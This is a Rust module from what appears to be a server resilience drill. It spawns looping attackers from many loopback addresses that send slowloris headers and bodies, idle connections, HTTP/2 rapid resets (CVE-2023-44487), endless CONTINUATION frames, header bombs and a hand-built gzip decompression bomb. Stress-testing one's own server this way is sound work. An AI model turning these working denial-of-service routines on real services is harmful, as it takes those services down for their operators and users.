//! What attackers do, each over and over until it is dropped. They come from many addresses of loopback, as a net of
//! captured machines would, so that no bound per client alone stops them.

use super::frames;
use std::io::Result;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use world::task::{self, Task};

/// Connections from one address: below what one client may have.
const PER_ADDRESS: usize = 800;
/// Between two bytes of those that are slow on purpose: often enough to look alive.
const DRIP: Duration = Duration::from_secs(1);
/// Before a connection that was refused is tried again.
const PAUSE: Duration = Duration::from_millis(200);
/// Ten megabytes of nothing, coded with gzip at its best: 10 KB. Made of its blocks, which repeat.
const BOMB_BLOCKS: usize = 10;

/// Where the attack goes, and how it fares.
#[derive(Clone)]
pub struct Target {
    pub address: SocketAddr,
    /// Connections that are open now.
    pub open: Arc<AtomicUsize>,
    /// Things sent: requests, resets, frames.
    pub sent: Arc<AtomicUsize>,
}

/// A connection of an attacker, counted while it is open.
pub(super) struct Hostile {
    pub(super) stream: TcpStream,
    open: Arc<AtomicUsize>,
}

impl Drop for Hostile {
    fn drop(&mut self) {
        self.open.fetch_sub(1, Ordering::Relaxed);
    }
}

impl Target {
    pub(super) async fn connect(&self, number: usize) -> Result<Hostile> {
        let block = u8::try_from(number / PER_ADDRESS % 250).unwrap_or(0);
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::from((Ipv4Addr::new(127, 66, 6, block + 1), 0)))?;
        let stream = socket.connect(self.address).await?;
        self.open.fetch_add(1, Ordering::Relaxed);
        Ok(Hostile { stream, open: Arc::clone(&self.open) })
    }

    pub(super) fn note(&self) {
        self.sent.fetch_add(1, Ordering::Relaxed);
    }
}

/// Starts `count` attackers that each do `one` again and again.
fn each<F, R>(target: &Target, count: usize, one: F) -> Vec<Task>
where
    F: Fn(Target, usize) -> R + Clone + Send + Sync + 'static,
    R: Future<Output = Result<()>> + Send + 'static,
{
    let start = |number| {
        let (target, one) = (target.clone(), one.clone());
        task::spawn("attacker", async move {
            loop {
                // Whatever ended it, it comes again.
                drop(one(target.clone(), number).await);
                tokio::time::sleep(PAUSE).await;
            }
        })
    };
    (0..count).map(start).collect()
}

/// Heads that never end.
pub fn slow_heads(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move {
        let mut hostile = target.connect(number).await?;
        hostile.stream.write_all(b"GET / HTTP/1.1\r\nHost: drill.test\r\n").await?;
        loop {
            tokio::time::sleep(DRIP).await;
            hostile.stream.write_all(b"x: y\r\n").await?;
            target.note();
        }
    })
}

/// Bodies that come byte by byte.
pub fn slow_bodies(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move {
        let mut hostile = target.connect(number).await?;
        hostile.stream.write_all(b"POST / HTTP/1.1\r\nHost: drill.test\r\nContent-Length: 1000000\r\n\r\n").await?;
        loop {
            tokio::time::sleep(DRIP * 5).await;
            hostile.stream.write_all(b"x").await?;
            target.note();
        }
    })
}

/// The same within streams of HTTP/2, each connection from an address of its own.
pub fn slow_streams(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move { frames::drip(&target, number * PER_ADDRESS).await })
}

/// Connections that say nothing, as many as there are descriptors for.
pub fn silence(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move {
        let mut hostile = target.connect(number).await?;
        // Until the other side has had enough.
        hostile.stream.read_u8().await.map(drop)
    })
}

/// Streams opened and reset at once (CVE-2023-44487).
pub fn rapid_resets(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move { frames::reset(&target, number * PER_ADDRESS).await })
}

/// Header blocks that never end (VU#421644).
pub fn endless_headers(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move { frames::continue_for_ever(&target, number * PER_ADDRESS).await })
}

/// Small header blocks that stand for large ones, and large ones.
pub fn header_bombs(target: &Target, count: usize) -> Vec<Task> {
    each(target, count, |target, number| async move {
        if number % 2 == 0 {
            return frames::expand(&target, number * PER_ADDRESS).await;
        }
        let mut hostile = target.connect(number * PER_ADDRESS).await?;
        let line = format!("x: {}\r\n", "y".repeat(8_000));
        hostile.stream.write_all(b"GET / HTTP/1.1\r\nHost: drill.test\r\n").await?;
        loop {
            hostile.stream.write_all(line.as_bytes()).await?;
            target.note();
        }
    })
}

/// Requests whose bodies are small and would become large.
pub fn coded_bombs(target: &Target, count: usize) -> Vec<Task> {
    let bomb: Arc<[u8]> = bomb().into();
    each(target, count, move |target, number| {
        let bomb = Arc::clone(&bomb);
        async move {
            let mut hostile = target.connect(number * PER_ADDRESS).await?;
            let head = format!(
                "POST / HTTP/1.1\r\nHost: drill.test\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                bomb.len()
            );
            hostile.stream.write_all(head.as_bytes()).await?;
            hostile.stream.write_all(&bomb).await?;
            let mut answer = Vec::new();
            hostile.stream.read_to_end(&mut answer).await?;
            target.note();
            Ok(())
        }
    })
}

/// A gzip file (RFC 1952) of blocks that each say "a zero, and 258 more of the same" until they have said a megabyte. Its
/// checksum is left wrong: whoever finds out has blown up before.
fn bomb() -> Vec<u8> {
    let mut bits = Bits::default();
    for _ in 0..BOMB_BLOCKS {
        // Not the last block, with fixed codes: the literal 0, then lengths of 258 at distance 1.
        bits.put(0, 1);
        bits.put(0b01, 2);
        bits.put_code(0x30, 8);
        for _ in 0..(1 << 20) / 258 {
            bits.put_code(0b1100_0101, 8);
            bits.put_code(0, 5);
        }
        bits.put_code(0, 7);
    }
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    file.extend(bits.bytes);
    // An empty last block, stored.
    file.extend([0b001, 0, 0, 0xff, 0xff]);
    file.extend([0; 8]);
    file
}

/// Bits as deflate packs them: from the lowest on.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for at in 0..count {
            if self.used == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::try_from(value >> at & 1).unwrap_or(0) << self.used;
            }
            self.used = (self.used + 1) % 8;
        }
    }

    /// Codes begin with their highest bit.
    fn put_code(&mut self, code: u32, count: u32) {
        for at in (0..count).rev() {
            self.put(code >> at & 1, 1);
        }
    }
}
